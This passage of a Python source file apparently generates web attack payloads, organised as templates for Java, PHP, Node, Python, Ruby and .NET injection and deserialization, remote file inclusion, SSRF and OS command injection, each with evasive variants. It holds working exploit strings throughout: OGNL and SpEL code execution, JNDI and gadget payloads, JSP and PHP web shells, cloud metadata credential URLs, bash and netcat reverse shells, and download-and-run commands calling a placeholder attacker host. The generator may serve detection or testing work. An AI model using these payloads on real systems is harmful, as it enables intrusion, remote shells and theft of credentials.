        "<S:String>cmd</S:String><S:String>/c %s</S:String></ObjectDataProvider.MethodParameters>"
        "</ObjectDataProvider></ResourceDictionary>" % cmd.replace("&", "&amp;")
    )
    bf = (
        b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
        + bstr("Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
        + b"\x05\x01\x00\x00\x00"
        + bstr("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")
        + b"\x01\x00\x00\x00"
        + bstr("ForegroundBrush")
        + b"\x01\x02\x00\x00\x00\x06\x03\x00\x00\x00"
        + bstr(xaml)
        + b"\x0b"
    )
    return b64(b"\xff\x01\x32" + vint(len(bf)) + bf)


def ps_enc(cmd):
    return b64(cmd.encode("utf-16-le"))


def ip_forms(ip):
    a = [int(x) for x in ip.split(".")]
    n = (a[0] << 24) | (a[1] << 16) | (a[2] << 8) | a[3]
    return [
        str(n),
        "0x%08x" % n,
        ".".join("0%o" % x for x in a),
        "%d.%d.%d" % (a[0], a[1], (a[2] << 8) | a[3]),
        "0x%x.%d.0%o.0x%x" % (a[0], a[1], a[2], a[3]),
        "0%o" % n,
        "%d.%d" % (a[0], n & 0xFFFFFF),
    ]


def spel_chars(s):
    parts = ["T(java.lang.Character).toString(%d)" % ord(c) for c in s]
    return parts[0] + "".join(".concat(%s)" % p for p in parts[1:])


# ---------------------------------------------------------------- attack templates
# (placement codes, payload template or callable, options)
OGNL_BODY = (
    "(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='§C').(#cmds={'/bin/sh','-c',#cmd})."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))"
)
XSTREAM = (
    "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
    '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
    "<string>/bin/sh</string><string>-c</string><string>§C</string></command></target><action>start</action>"
    "</handler></dynamic-proxy></sorted-set>"
)
XSTREAM_REF = (
    "<linked-hash-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n"
    '    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n'
    "        <command><string>&#x2f;bin&#x2f;bash</string><string>&#45;c</string>"
    "<string>&#x63;url http://§H/&#x24;(whoami)</string></command>\n      </target>\n"
    "      <action>st&#x61;rt</action>\n    </handler>\n  </dynamic-proxy>\n</linked-hash-set>"
)
XMLDECODER = (
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
    '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0_151" '
    'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
    'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string>'
    '</void><void index="2"><string>§C</string></void></array><void method="start"/></void></java>'
    "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"
)
JSP_SHELL = (
    '<%@ page import="java.io.*" %><% String c = request.getParameter("c"); if (c != null) { '
    'Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); BufferedReader r = new '
    "BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) "
    "{ out.println(l); } } %>"
)

JAVA_N = [
    ("h", "%{" + OGNL_BODY + "}", {"hdr": "Content-Type", "path": "/struts2-showcase/fileupload/upload.action"}),
    (
        "p",
        "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('§C').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
        {"ptpl": "/{P}/"},
    ),
    ("q f j", "T(java.lang.Runtime).getRuntime().exec('§C')"),
    ("q f j x m", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','§C'})}"),
    (
        "h",
        'T(java.lang.Runtime).getRuntime().exec("§C")',
        {
            "hdr": "spring.cloud.function.routing-expression",
            "path": "/functionRouter",
            "meth": "POST",
            "body": "data",
            "bct": "text/plain",
        },
    ),
    (
        "fk",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        {
            "path": "/api/v2/products",
            "val": '%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i',
            "ex_form": [
                ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
                ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", ""),
            ],
        },
    ),
    ("q f j", '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("§C")}'),
    ("j", 'JSON:["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://§H:1389/Exploit","autoCommit":true}]'),
    ("j", 'JSON:{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://§H:1099/Object","autoCommit":true}'),
    (
        "j",
        'JSON:["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://§H/inject.sql\'"}]',
    ),
    ("j", 'JSON:["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://§H:1389/obj"}]'),
    ("j", 'JSON:{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://§H/Basic/Command/§R"}'),
    ("xd", XSTREAM),
    ("xd", XMLDECODER, {"path": "/wls-wsat/CoordinatorPortType", "ctype": "text/xml"}),
    ("f", "def proc = '§C'.execute(); println proc.text", {"pn": "script", "path": "/script"}),
    (
        "j",
        "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);return null;}'; CALL EXEC('§C');",
        {"pn": "value", "path": "/actuator/env"},
    ),
    ("q f j h", "${script:javascript:java.lang.Runtime.getRuntime().exec('§C')}"),
    ("mf", JSP_SHELL, {"fn": "§R.jsp", "fct": "application/octet-stream"}),
    (
        "f j mf",
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://§H/yaml-payload.jar"]]]]',
        {"fn": "config.yml", "fct": "application/x-yaml"},
    ),
    (
        "qk",
        "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'§X'})).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#m=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#m.getWriter().println(#e),#m.getWriter().flush(),#m.getWriter().close()}",
        {"path": "/index.action", "noeq": True},
    ),
    ("c", "${T(java.lang.Runtime).getRuntime().exec('§C')}"),
]
JAVA_H = [
    (
        "qk",
        "('\\u0023_memberAccess.allowStaticMethodAccess\\u003dtrue,\\u0023r\\u003d@java.lang.Runtime@getRuntime(),\\u0023r.exec(\\u0027§X\\u0027)')(bla)(bla)",
        {"path": "/login.action"},
    ),
    (
        "q f j",
        lambda: (
            "T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new byte[]{%s}))"
            % ",".join(str(b) for b in fill("§C").encode())
        ),
    ),
    ("q f j", lambda: "T(java.lang.Runtime).getRuntime().exec(%s)" % spel_chars(fill("§X"))),
    (
        "q f j c",
        "${''['class'].forName('java.lang.'.concat('Runtime')).getMethod('getRu'.concat('ntime')).invoke(null).exec('§C')}",
    ),
    ("q f j", "#{''.getClass().forName('java.la'+'ng.Runtime').getMethod('getRu'+'ntime').invoke(null).exec('§C')}"),
    ("q f j", "T(java.lang.Runtime)\n\t.getRuntime()\n\t.exec('§C')"),
    (
        "j",
        'JSON:{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://§H:1389/Exploit","autoCommit":true}',
    ),
    (
        "j",
        'JSON:{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://§H:1389/Exploit","autoCommit":true}}',
    ),
    (
        "j",
        'JSON:{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"rmi://§H:1099/Exploit","autoCommit":true}',
        {"enc": "u"},
    ),
    (
        "j",
        'JSON:["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://§H:1389/Exploit"}]',
        {"enc": "u"},
    ),
    ("c", lambda: java_ser_b64(), {"pn": "rememberMe"}),
    ("f", lambda: java_ser_b64(gz=True), {"pn": "javax.faces.ViewState"}),
    ("xd", XSTREAM_REF),
    (
        "mfn",
        "%{" + OGNL_BODY.replace("'/bin/sh','-c',#cmd", "'/bin/bash','-c',#cmd") + "}\x00b",
        {"path": "/struts2-showcase/fileupload/doUpload.action"},
    ),
    (
        "h",
        "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('§C')}",
        {"hdr": "Content-Type"},
    ),
    (
        "q f j",
        "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime().exec(\"§C\")')",
    ),
    (
        "fk",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        {"enc": "full", "val": '<% Runtime.getRuntime().exec(request.getParameter("i")); %>'},
    ),
    (
        "q f",
        "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('§C').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    ),
]

PHP_SHELL = "<?php echo shell_exec($_GET['c']); ?>"
PHP_N = [
    ("q f j", "system('§C');"),
    ("q f j x", "passthru('§C'); exit;"),
    ("q f", "';system('§C');//"),
    ("q f j", "{${system('§C')}}"),
    ("q f", "phpinfo();"),
    (
        "q",
        "/index/\\think\\app/invokefunction",
        {"pn": "s", "ex": [("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "§C")]},
    ),
    ("c", lambda: php_gadget(), {"pn": "laravel_session"}),
    ("mf", PHP_SHELL, {"fn": "avatar.phtml", "fct": "image/jpeg", "field": "avatar"}),
    ("mf", "AddType application/x-httpd-php .jpg .png", {"fn": ".htaccess", "fct": "text/plain"}),
    (
        "qk",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        {
            "path": "/index.php",
            "noeq": True,
            "meth": "POST",
            "body": "<?php system('§C'); die(); ?>",
            "bct": "application/x-www-form-urlencoded",
        },
    ),
    ("h", "<?php system($_GET['c']); ?>", {"hdr": "User-Agent"}),
    (
        "f",
        "echo shell_exec('§C'); exit;",
        {
            "pn": "widgetConfig[code]",
            "path": "/ajax/render/widget_php",
            "ex_form": [("routestring", "ajax/render/widget_php")],
        },
    ),
    (
        "fk",
        "mail[#post_render][]",
        {
            "val": "exec",
            "path": "/user/register",
            "ex": [("element_parents", "account/mail/#value"), ("ajax_form", "1"), ("_wrapper_format", "drupal_ajax")],
            "ex_form": [
                ("form_id", "user_register_form"),
                ("_drupal_ajax", "1"),
                ("mail[#type]", "markup"),
                ("mail[#markup]", "§C"),
            ],
        },
    ),
    ("q f j", lambda: "eval(base64_decode('%s'));" % b64(fill("system('§C');"))),
    ("q f j", "file_put_contents('/var/www/html/cache.php','<?php @eval($_POST[1]);?>');"),
    ("q f", "}system('§C');/*"),
    ("j x", "assert('system(\"§C\")');"),
    ("m", "<?=`$_GET[0]`?>"),
    ("q f", "system('§C')", {"pn": "replacement", "ex": [("pattern", "/.*/e"), ("subject", "x")]}),
    ("x", "<?php system('§C'); ?>"),
    ("p", "system('§C');", {"ptpl": "/index.php/eval/{P}"}),
]
PHP_H = [
    ("q f j", "$f='sys'.'tem';$f('§C');"),
    ("q f j", lambda: "(%s)('%s');" % (".".join("chr(%d)" % ord(c) for c in "system"), fill("§C"))),
    ("q f j", '("\\x73\\x79\\x73\\x74\\x65\\x6d")("§C");'),
    ("q f", "SyStEm('§C');"),
    ("q f j", "system/**/('§C');"),
    ("q f", "\\system('§C');"),
    ("c", lambda: php_gadget(plus=True), {"pn": "cart"}),
    ("q", "(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);", {"latin": True, "pn": "code"}),
    (
        "qk",
        "\xadd allow_url_include=1 \xadd auto_prepend_file=php://input",
        {
            "latin": True,
            "path": "/php-cgi/php-cgi.exe",
            "noeq": True,
            "meth": "POST",
            "body": "<?php echo shell_exec('§W'); ?>",
        },
    ),
    ("q f j", "array_map('sys'.'tem',array('§C'));"),
    ("q f j", "call_user_func(base64_decode('c3lzdGVt'),'§C');"),
    ("q f", "@$_REQUEST['x']($_REQUEST['y']);", {"ex": [("x", "system"), ("y", "§C")]}),
    ("mf", "GIF89a;\n<?php system($_REQUEST['c']); ?>", {"fn": "profile.pHp5", "fct": "image/gif"}),
    ("mf", "<script language=\"php\">system($_GET['c']);</script>", {"fn": "theme.phtml", "fct": "text/html"}),
    (
        "h",
        "<?php eval(base64_decode($_SERVER['HTTP_X_CMD'])); ?>",
        {"hdr": "Referer", "hdrs": [("X-Cmd", b64("system('id');"))]},
    ),
    ("j", "$a=strrev('metsys');$a('§C');"),
    ("x", "SYSTEM('§C');", {"enc": "ref"}),
    ("q f j", '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);', {"ex": [("_", "system"), ("__", "§C")]}),
]

CI_N = [
    ("q f j", "require('child_process').execSync('§C').toString()"),
    ("q f j h", "process.mainModule.require('child_process').exec('§C')"),
    ("j", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('§C')"),
    ("j", "_$$ND_FUNC$$_function(){require('child_process').exec('§C',function(e,o){})}()"),
    (
        "j",
        'JSON:{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'§C\');x"}}',
        {"pn": "settings"},
    ),
    (
        "j",
        'JSON:{"constructor":{"prototype":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'§C\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}',
    ),
    ("q f j", "__import__('os').popen('§C').read()"),
    ("q f j x", "__import__('subprocess').check_output(['sh','-c','§C'])"),
    ("j f", "exec(\"import os;os.system('§C')\")"),
    ("f j mf", '!!python/object/apply:os.system ["§C"]', {"fn": "pipeline.yaml", "fct": "application/x-yaml"}),
    (
        "j q",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('§C')",
    ),
    ("q f j", "IO.popen('§C').read"),
    ("q f", "|§C"),
    ("q f j", "%x(§C)"),
    ("q j", "#{`§C`}"),
    (
        "mf",
        "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: §C\n       method_id: :resolve\n",
        {"fn": "import.yml", "fct": "text/yaml"},
    ),
    (
        "j",
        'JSON:{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c §W"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
    ),
    (
        "xd",
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="run" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>/c §W</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>',
    ),
    ("q f j", 'System.Diagnostics.Process.Start("cmd.exe","/c §W")'),
    (
        "q j",
        '"".GetType().Assembly.DefinedTypes.Where(it.Name == "AppDomain").First().DeclaredMethods.Where(it.Name == "CreateInstanceAndUnwrap").First().Invoke("".GetType().Assembly.DefinedTypes.Where(it.Name == "AppDomain").First().DeclaredProperties.Where(it.name == "CurrentDomain").First().GetValue(null), "System, Version = 4.0.0.0, Culture = neutral, PublicKeyToken = b77a5c561934e089; System.Diagnostics.Process".Split(";".ToCharArray())).GetType().Assembly.DefinedTypes.Where(it.Name == "Process").First().DeclaredMethods.Where(it.name == "Start").Take(3).Last().Invoke(null, "cmd.exe;/c whoami".Split(";".ToCharArray()))',
        {"pn": "orderBy"},
    ),
    (
        "j mf",
        'package main\n\nimport "os/exec"\n\nfunc main() { exec.Command("sh", "-c", "§C").Run() }\n',
        {"pn": "source", "fn": "main.go", "fct": "text/x-go"},
    ),
    ("q f j", "os.execute('§C')"),
]
CI_H = [
    (
        "q f j",
        lambda: (
            "eval(String.fromCharCode(%s))"
            % ",".join(str(ord(c)) for c in fill("require('child_process').execSync('§C')"))
        ),
    ),
    ("q f j", "global['proc'+'ess']['mainMo'+'dule']['req'+'uire']('child_'+'process')['ex'+'ecSync']('§C')"),
    ("q j", "(function(){return this})().process.mainModule.require('child_process').execSync('§C')"),
    ("q f j", 'global["\\x70rocess"].mainModule["\\x72equire"]("child_process").execSync("§C")'),
    ("c", lambda: node_ser_b64(), {"pn": "profile"}),
    ("c f", lambda: pickle_b64(), {"pn": "session_state"}),
    ("q f j", "getattr(__import__('o'+'s'),'sys'+'tem')('§C')"),
    ("q f j", "__import__(bytes.fromhex('6f73').decode()).system('§C')"),
    ("q j", "__\U0001d422\U0001d426\U0001d429\U0001d428\U0001d42b\U0001d42d__('os').system('§C')"),
    (
        "q f j",
        lambda: "eval(''.join(map(chr,[%s])))" % ",".join(str(ord(c)) for c in fill("__import__('os').system('§C')")),
    ),
    ("q f j", "Kernel.send('sys'+'tem','§C')"),
    ("q f", "Kernel.const_get(:IO).popen(['sh','-c','§C']).read"),
    (
        "j",
        'JSON:{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c §W"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}',
        {"enc": "u"},
    ),
    (
        "f",
        lambda: dotnet_viewstate(),
        {
            "pn": "__VIEWSTATE",
            "path": "/Account/Login.aspx",
            "ex_form": [("__VIEWSTATEGENERATOR", "CA0B0334"), ("__EVENTVALIDATION", "")],
        },
    ),
    ("q f j", "require('child_process')['exec'+'Sync']`§X`"),
    ("q f j", "(lambda f: f('os').system('§C'))(__import__)"),
    (
        "q f j",
        lambda: (
            "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','%s'],stdio:[{type:'pipe',readable:true,writable:false},{type:'pipe',readable:true,writable:true},{type:'pipe',readable:true,writable:true}]})"
            % fill("§C")
        ),
    ),
    ("j", "Reflect.construct(Function,['return process'])().mainModule.require('child_process').execSync('§C')"),
]

RFI_PHP = "<?php system($_GET['c']); ?>"
RFI_N = [
    ("q f j c", "http://§H/shell.txt?"),
    ("q f m", "https://§H/payloads/c99.txt"),
    ("q f j", "ftp://anonymous:x@§H/pub/r57.php"),
    ("q f", "\\\\§H\\share\\shell.php"),
    ("q f j", "data://text/plain;base64," + b64(RFI_PHP)),
    ("q f", "data:text/plain,<?php system('§C');?>"),
    ("q", "php://input", {"meth": "POST", "body": "<?php system('§C'); ?>", "bct": "text/plain"}),
    ("q f j c", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("q f", "expect://id"),
    ("q f x", "phar:///var/www/uploads/avatars/§R.jpg/x"),
    ("q f", "zip:///var/www/uploads/§R.zip#shell"),
    ("q f", "http://§H/shell.txt\x00"),
    ("q f j", "https://raw.githubusercontent.com/§R/tools/main/wso.php?"),
    ("m x", "http://§H/inc/header.txt?"),
    ("h", "http://§H/tpl/evil.txt?"),
    ("q c", "http://§H/lang/en.txt?", {"pn": "lang"}),
    ("q f", "php://filter/read=string.rot13/resource=index.php"),
]
RFI_H = [
    ("q f", "hTtP://§H/shell.txt?"),
    ("q f", "http%3A%2F%2F§H%2Fshell.txt%3F"),
    ("q f", lambda: "http://%s/shell.txt?" % ch(ip_forms(ch(["203.0.113.10", "198.51.100.44"]))[:3])),
    ("q f", lambda: "https://%s/r57.txt?" % ip_forms("198.51.100.23")[0]),
    ("q f", "Data://text/plain;base64," + b64("<?php passthru($_GET['x']); ?>")),
    ("q f", "php://filter/read=convert.base64-decode/resource=data://plain/text," + b64(b64(RFI_PHP))),
    (
        "q f j",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|convert.iconv.IBM-932.UTF-8|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.8859_3.UTF16|convert.iconv.863.SHIFT_JISX0213|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
    ),
    ("q", "pHp://InPuT", {"meth": "POST", "body": "<?php echo `§C`; ?>", "bct": "text/plain"}),
    ("q f", "\\\\§H@SSL@443\\DavWWWRoot\\shell.php"),
    ("q f", "compress.zlib://http://§H/shell.txt"),
    ("j", "http://§H/shell.txt?", {"enc": "u"}),
    ("q f", "HTTP://§H/shell.txt#"),
    ("q", "data:;base64," + b64("<?php eval($_POST[0]); ?>")),
    ("q f", "phar://./uploads/§R.gif/shell"),
    ("q f", "http:%252f%252f§H%252fshell.txt%253f"),
    ("q f", "https://cdn.example-assets.com@§H/shell.txt?"),
    ("x", "http://§H/shell.txt?", {"enc": "ref"}),
]

META = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/v1/user-data",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.170.2/v2/credentials/§R",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "https://metadata.platformequinix.com/metadata",
]
SSRF_N = [(("q f j h m x c"), u) for u in META] + [
    ("q f j", "http://127.0.0.1:2375/containers/json"),
    ("q f j", "http://localhost:8500/v1/agent/self"),
    ("q j", "http://10.0.12.7:9200/_cat/indices?v"),
    ("q f j", "http://127.0.0.1:10255/pods"),
    ("q f j", "http://localhost:8080/actuator/heapdump"),
    ("j q", "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets"),
    ("q f j x", "file:///etc/passwd"),
    ("q j", "file:///proc/self/environ"),
    (
        "q f j",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/§H/4444%200%3E%261%0A%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A/var/spool/cron/%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A",
    ),
    ("q f", "dict://127.0.0.1:11211/stats"),
    ("p", "http://169.254.169.254/latest/meta-data/", {"ptpl": "/api/image-proxy/{P}"}),
    ("q j", "http://192.168.0.1/cgi-bin/luci/;stok=/locale"),
    ("q f j", "http://internal-admin.corp.local/admin/users"),
]
SSRF_H = [
    ("q f j", lambda: "http://%s/latest/meta-data/" % ch(ip_forms("169.254.169.254"))),
    ("q f j", lambda: "http://%s/latest/meta-data/iam/security-credentials/" % ch(ip_forms("169.254.169.254"))),
    ("q f j", lambda: "http://%s:6379/" % ch(ip_forms("127.0.0.1") + ["127.1", "0", "0.0.0.0", "127.000.000.001"])),
    ("q f j x", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("q f j", "http://[::ffff:169.254.169.254]/computeMetadata/v1/"),
    ("q f j", "http://[0:0:0:0:0:ffff:127.0.0.1]:8500/v1/agent/self"),
    ("q j", "http://[::1]:2375/containers/json"),
    ("q f j", "http://[::]:9200/_cat/indices"),
    ("q f j", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("q f j", "http://08080808.a9fea9fe.rbndr.us/latest/meta-data/"),
    ("q f j", "http://metadata.localtest.me:8080/actuator/env"),
    ("q j", "http://\u2460\u2465\u2468.\u2461\u2464\u2463.\u2460\u2465\u2468.\u2461\u2464\u2463/latest/meta-data/"),
    ("q f j", "http://assets.example-cdn.com@169.254.169.254/latest/meta-data/"),
    ("q f j", "http://169.254.169.254#@assets.example-cdn.com/latest/meta-data/"),
    ("q f j", "http://assets.example-cdn.com\\@127.0.0.1:6379/"),
    ("q f j", "http://assets.example-cdn.com&@127.0.0.1:8080#@assets.example-cdn.com/actuator/env"),
    ("q f j", "http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token"),
    ("q f j", "http://instance-data/latest/meta-data/iam/security-credentials/"),
    ("q f", "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"),
    ("q f j", "https://§H/redir?code=307&url=http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    (
        "q f j",
        "gopher://0x7f000001:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system($_GET[c])%3B%3F%3E%22%0D%0ASAVE%0D%0A",
    ),
    ("q f j", "dict://[::1]:11211/stats"),
    ("j", "http://169.254.169.254/latest/meta-data/", {"enc": "u"}),
    ("q f j", "HTTP://0251.0376.0251.0376./latest/api/token"),
]

RCE_N = [
    ("q f j x c", "127.0.0.1; §C"),
    ("q f j", "8.8.8.8 | §C"),
    ("q f", "example.com && §C"),
    ("q f j", "$(§C)"),
    ("q f j", "`§C`"),
    ("q f", "x || §C"),
    ("q f j", "report.pdf; §C #"),
    ("q f j", "127.0.0.1\n§C"),
    ("h", "() { :; }; /bin/bash -c '§C'", {"hdr": "User-Agent", "path": "/cgi-bin/status"}),
    ("h", "() { _; } >_[$($())] { /bin/sh -c '§C'; }", {"hdr": "Referer", "path": "/cgi-bin/test.cgi"}),
    ("q f", "| type C:\\Windows\\win.ini"),
    ("q f", "& §W &"),
    ("q f j", "; bash -i >& /dev/tcp/§H/§P 0>&1"),
    ("q f", "; nc -e /bin/sh §H §P"),
    ("q f j", "--upload-pack=touch /tmp/pwn", {"pn": "repo_url"}),
    ("q f j", "-oProxyCommand=sh -c '§C' ", {"pn": "ssh_host"}),
    ("mfn", "photo.jpg;§C;.png"),
    ("mfn", "--checkpoint-action=exec=sh shell.sh"),
    (
        "mf",
        "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|§C\")'\npop graphic-context\n",
        {"fn": "logo.mvg", "fct": "image/svg+xml"},
    ),
    ("p", "8.8.8.8;§C", {"ptpl": "/api/diagnostics/ping/{P}"}),
    ("j", "--output=/var/www/html/s.php http://§H/s.txt", {"pn": "curl_opts"}),
    ("q f", "$(curl -s http://§H/$(whoami))"),
    ("q f", "127.0.0.1 & powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://§H/a')\""),
    ("m", "a.png; §C"),
    ("qk", ";§C;", {"noeq": True}),
]
RCE_H = [
    ("q f j", "127.0.0.1;cat${IFS}§F"),
    ("q f j", ";{cat,§F}"),
    ("q f", ";c''at §F"),
    ("q f j", ";c\\at /e\\tc/pas\\swd"),
    ("q f", ";/???/c?t /???/p??s??"),
    ("q f j", "127.0.0.1;$(printf '\\151\\144')"),
    ("q f j", lambda: ";echo %s|base64 -d|sh" % b64(fill("§C"))),
    ("q f", "$'\\x69\\x64'"),
    ("q f j c", ";w$()h$()o$()a$()m$()i"),
    ("q f", "%0a§C"),
    ("q f", ";$(rev<<<'di')"),
    ("q f", "| c^m^d /c wh^o^am^i"),
